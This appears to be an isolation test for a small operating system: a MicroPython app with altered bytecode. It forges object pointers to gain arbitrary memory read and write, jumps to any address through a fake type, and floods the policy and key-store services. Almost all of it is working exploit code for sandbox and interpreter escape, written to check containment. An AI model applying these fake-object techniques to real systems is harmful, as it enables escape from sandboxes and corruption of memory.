# An app whose bytecode was changed after it was compiled: stray() gives back whatever lies where no variable is. There lie pointers to an
# object of the app's own making, so that it can read and write any address, and jump to any: .mpy files are arbitrary code.
# Page tables and the kernel are what is left between it and everybody else.

import struct

import contract
import kernel
import tries
from target import ADDRESS, WAY

_POINTERS = 256  # bytes of the message buffer full of pointers to the object behind them
_OBJECT = contract.VA_IPC + _POINTERS
_TYPE = _OBJECT + 32
_TYPECODE = 0x80 | 66  # of a view of bytes that can be written
_ALL = 1 << 60


# The host puts a load of a variable far outside of all frames in the place of these.
def stray(a):
    a  # noqa: B018
    a  # noqa: B018
    a  # noqa: B018
    a  # noqa: B018
    a  # noqa: B018
    a  # noqa: B018
    return a


def forge(words):
    struct.pack_into("<%dQ" % (_POINTERS // 8), kernel.buffer, 0, *([_OBJECT] * (_POINTERS // 8)))
    struct.pack_into("<%dQ" % len(words), kernel.buffer, _POINTERS, *words)


# All of the address space as one view.
def memory():
    forge((id(memoryview), _TYPECODE, _ALL, 0))
    return stray(None)


# Something that, called, goes on at that address.
def jump(address):
    firsts = 0x0101010101010101  # each function of the type is the first and only one
    forge((_TYPE, 0, 0, 0, id(type), firsts & ~0xFFFFFFFF, firsts, address))
    kernel.buffer[400:404] = b"\x73\x00\x00\x00"  # ecall
    stray(None)(1, 2, 3)


# What the kernel states to others it reads from nowhere here.
def claim():
    view = memory()
    for at in range(contract.VA_IPC + contract.IPC_DATA_BYTES, contract.VA_IPC + 4096):
        view[at] = 0xFF
    found = tries.routes()
    for number in range(contract.POLICY_LIMIT_ACTIONS):
        tries.ask(found.get(b"policyd", 0), contract.OP_POLICYD_CHECK, bytes((number, 0)) + b"-")
    for op in range(1, 16):
        tries.ask(found.get(b"keystored", 0), op, bytes(16))


# Its own runtime, from its variables on, until it no longer stands.
def scribble():
    view = memory()
    for at in range(ADDRESS, ADDRESS + (1 << 20)):
        view[at] = 0xA5


def read():
    print("wild read %016x" % ADDRESS)
    return memory()[ADDRESS]


def write():
    print("wild write %016x" % ADDRESS)
    memory()[ADDRESS] = 0


def leap():
    print("wild leap %016x" % ADDRESS)
    jump(ADDRESS)


WAYS = {"read": read, "write": write, "jump": leap, "claim": claim, "scribble": scribble}
WAYS[WAY]()
print("wild survived %s" % WAY)
kernel.exit(0)
